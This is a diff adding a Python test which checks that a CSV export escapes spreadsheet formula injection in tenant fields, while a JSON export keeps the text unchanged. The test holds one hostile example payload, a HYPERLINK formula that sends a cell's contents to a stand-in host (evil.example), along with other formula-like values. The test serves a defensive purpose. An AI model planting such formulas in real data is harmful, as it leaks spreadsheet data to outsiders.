@@ -168,3 +168,17 @@ async def test_every_refusal_names_why(runtime: Any, make_tenant: Any, fake_twil
     assert "under the minimum" in why[small.external_id]
     assert "the address (street and number, postcode, city) is missing" in why[homeless.external_id]
     assert "the municipality is missing" in why[homeless.external_id]
+async def test_a_name_that_is_a_formula_reaches_the_municipality_as_text(
+    runtime: Any, make_tenant: Any, fake_twilio: Any
+) -> None:
+    complete, _ = await two_cases_through_the_ladder(runtime, make_tenant)
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'
+    async with runtime.db.begin() as connection:
+        await connection.execute(update(tenants).where(tenants.c.id == complete.id).values(
+            name=formula, address="@SUM(1+1)", city="-2+3"))
+        export = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
+    [row] = list(csv.DictReader(io.StringIO(export.csv())))
+    assert row["name"] == "'" + formula  # a spreadsheet shows it, never runs it
+    assert row["address"].startswith("'@SUM(1+1)")
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+    assert json.loads(export.json())["signals"][0]["name"] == formula  # JSON carries the text unchanged
